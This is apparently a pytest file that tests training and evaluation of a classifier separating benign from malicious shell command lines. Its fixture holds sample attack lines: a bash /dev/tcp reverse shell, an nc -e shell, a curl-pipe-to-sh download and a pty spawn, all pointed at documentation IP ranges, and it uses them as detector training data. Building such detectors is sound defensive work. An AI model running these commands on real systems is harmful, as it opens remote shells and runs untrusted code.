from __future__ import annotations

import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cmdclf.classify import Scorer
from cmdclf.classify.train_pools import main, train_pools
from cmdclf.lexicon import Lexicon
from cmdclf.lexicon.pools import LexiconPool

BENIGN = (
    "tar czf /backup/{0}.tgz /srv/{0}",
    "systemctl restart {0}",
    "rsync -a /srv/{0}/ /mnt/{0}/",
    "logger -t {0} done",
)
MALICIOUS = (
    "bash -i >& /dev/tcp/198.51.100.{0}/443 0>&1",
    "nc -e /bin/sh 203.0.113.{0} 4444",
    "curl -s http://192.0.2.{0}/x | sh",
    "python3 -c 'import pty; pty.spawn({0})'",
)
NAMES = [f"{a}{b}" for a in ("alpha", "bravo", "delta", "omega") for b in ("mail", "shop", "docs", "wiki", "auth")]


@pytest.fixture
def pool(tmp_path):
    rows = [
        {"command_line": line.format(name), "label": "benign", "source": f"docs{number % 4}", "license": "MIT"}
        for number, line in enumerate(BENIGN)
        for name in NAMES
    ] + [
        {"command_line": line.format(n), "label": "malicious", "source": f"attack{number}", "license": "MIT"}
        for number, line in enumerate(MALICIOUS)
        for n in range(1, 31)
    ]
    for number, row in enumerate(rows):
        row |= {"platform": "linux", "group_id": f"g{number}", "hard": False}
    path = tmp_path / "pool.parquet"
    pq.write_table(pa.Table.from_pylist(rows), path)
    return path


def test_a_model_is_trained_on_some_sources_and_measured_on_the_others(pool, tmp_path, capsys):
    assert main(["--pool", str(pool), "--out", str(tmp_path / "model"), "--with-gpl", "--name", "small"]) == 0
    metrics = json.loads(capsys.readouterr().out)
    manifest = Scorer.load(tmp_path / "model").manifest
    assert manifest["name"] == "small"
    assert metrics["held_out"]
    assert not set(metrics["held_out"]) & set(manifest["provenance"]["sources"])
    assert metrics["n_benign"] > 0
    assert metrics["n_malicious"] > 0


def test_gpl_sources_are_left_out_of_training_unless_asked_for(pool, tmp_path, capsys):
    table = pq.read_table(pool)
    gpl = pa.array(["GPL-3.0-only" if s == "docs0" else "MIT" for s in table["source"].to_pylist()])
    pq.write_table(table.set_column(table.column_names.index("license"), "license", gpl), pool)
    assert main(["--pool", str(pool), "--out", str(tmp_path / "model")]) == 0
    capsys.readouterr()
    assert "docs0" not in Scorer.load(tmp_path / "model").manifest["provenance"]["sources"]


def test_lines_that_a_verdict_contradicts_or_leaves_open_have_no_sure_label(pool, tmp_path, capsys):
    def said(line):
        if line.startswith("logger"):
            return "malicious"
        return (
            "unsure" if line.startswith("rsync") else "benign" if line.startswith(("tar", "systemctl")) else "malicious"
        )

    table = pq.read_table(pool)
    verdicts = pa.table(
        {
            "process_command_line": table["command_line"],
            "platform": table["platform"],
            "verdict": [said(line) for line in table["command_line"].to_pylist()],
        }
    )
    pq.write_table(verdicts, tmp_path / "verdicts.parquet")
    arguments = ["--pool", str(pool), "--out", str(tmp_path / "model"), "--with-gpl"]
    assert main([*arguments, "--verdicts", str(tmp_path / "verdicts.parquet")]) == 0
    metrics = capsys.readouterr().out
    provenance = Scorer.load(tmp_path / "model").manifest["provenance"]
    sources = provenance["sources"]
    held = set(json.loads(metrics)["held_out"])
    assert provenance["in_doubt"] == 20 * len({"docs2", "docs3"} - held)
    assert not {"docs2", "docs3"} & set(sources)


def test_the_exported_model_may_learn_from_the_sources_that_tested(pool, tmp_path, capsys):
    assert main(["--pool", str(pool), "--out", str(tmp_path / "part"), "--with-gpl"]) == 0
    measured = json.loads(capsys.readouterr().out)
    assert main(["--pool", str(pool), "--out", str(tmp_path / "all"), "--with-gpl", "--everything"]) == 0
    assert json.loads(capsys.readouterr().out) == measured
    part, everything = (Scorer.load(tmp_path / name).manifest["provenance"] for name in ("part", "all"))
    assert set(everything["sources"]) == set(part["sources"]) | set(measured["held_out"])
    assert everything["benign"] > part["benign"]
    assert everything["trained_on_the_test_too"]


def test_a_training_set_of_one_label_is_refused_by_name(pool, tmp_path, capsys):
    table = pq.read_table(pool)
    verdicts = pa.table(
        {
            "process_command_line": table["command_line"],
            "platform": table["platform"],
            "verdict": ["benign"] * table.num_rows,
        }
    )
    pq.write_table(verdicts, tmp_path / "verdicts.parquet")
    arguments = ["--pool", str(pool), "--out", str(tmp_path / "model"), "--with-gpl"]
    assert main([*arguments, "--verdicts", str(tmp_path / "verdicts.parquet")]) == 2
    assert "no malicious line is left to train on" in capsys.readouterr().err


def test_a_missing_pool_is_named(tmp_path, capsys):
    assert main(["--pool", str(tmp_path / "none.parquet"), "--out", str(tmp_path / "model")]) == 2
    assert "none.parquet" in capsys.readouterr().err


def test_lexicon_lines_train_and_do_not_test(pool, tmp_path, monkeypatch):
    lexicon = tmp_path / "lexicon"
    lexicon.mkdir()
    entry = '[[template]]\nid = "lin-{0}"\nlabel = "benign"\nplatform = "linux"\nrole = "r"\nline = "du -sh /srv/{0}"\n'
    (lexicon / "a.toml").write_text("".join(entry.format(word) for word in ("ab", "cd", "ef")))
    small = LexiconPool(Lexicon.load(lexicon), repeats=1)
    monkeypatch.setattr("cmdclf.classify.train_pools.LexiconPool", lambda repeats: small)
    made = {
        n: train_pools([pool], tmp_path / f"m{n}", leave_out_licences=False, lexicon_lines=n, neighbours=n > 0)
        for n in (0, 1)
    }
    scorers = {n: Scorer.load(tmp_path / f"m{n}", threads=1) for n in made}
    provenance = {n: scorers[n].manifest["provenance"] for n in made}
    assert provenance[1]["lexicon_lines"] == 1
    assert provenance[1]["benign"] == provenance[0]["benign"] + 3
    assert provenance[1]["sources"] == provenance[0]["sources"]
    assert made[1]["n_benign"] == made[0]["n_benign"]
    # Explanations name lines of the lexicon where that was asked for, and never one of a pool.
    assert scorers[0].neighbours is None
    assert scorers[1].neighbours.rows["source"].to_pylist() == ["lin-ab", "lin-cd", "lin-ef"]


def with_labels(pool, change):
    table = pq.read_table(pool)
    labels = [change(i, label) for i, label in enumerate(table["label"].to_pylist())]
    pq.write_table(table.set_column(table.column_names.index("label"), "label", pa.array(labels)), pool)


def test_a_pool_of_one_class_is_named_with_the_class_that_it_lacks(pool, tmp_path, capsys):
    with_labels(pool, lambda i, label: "benign")
    assert main(["--pool", str(pool), "--out", str(tmp_path / "model")]) == 2
    error = capsys.readouterr().err
    assert f"{pool}: no line is malicious" in error
    assert "Give a pool with malicious lines" in error


def test_an_unknown_label_is_named_with_file_and_row(pool, tmp_path, capsys):
    with_labels(pool, lambda i, label: "evil" if i == 6 else label)
    assert main(["--pool", str(pool), "--out", str(tmp_path / "model")]) == 2
    assert "pool.parquet, row 7: label 'evil'" in capsys.readouterr().err


def test_lines_with_both_labels_train_nothing_and_are_counted(pool, tmp_path, capsys):
    table = pq.read_table(pool)
    again = table.slice(0, 1).set_column(table.column_names.index("label"), "label", pa.array(["malicious"]))
    pq.write_table(pa.concat_tables([table, again]), pool)
    assert main(["--pool", str(pool), "--out", str(tmp_path / "model"), "--with-gpl"]) == 0
    metrics = json.loads(capsys.readouterr().out)
    manifest = Scorer.load(tmp_path / "model").manifest
    assert manifest["provenance"]["left_out"]["line with both labels"] == 2
    assert metrics["unresolved"]
    assert set(metrics["unresolved"]) == {fpr for fpr, value in metrics["tpr_at_fpr"].items() if value is None}
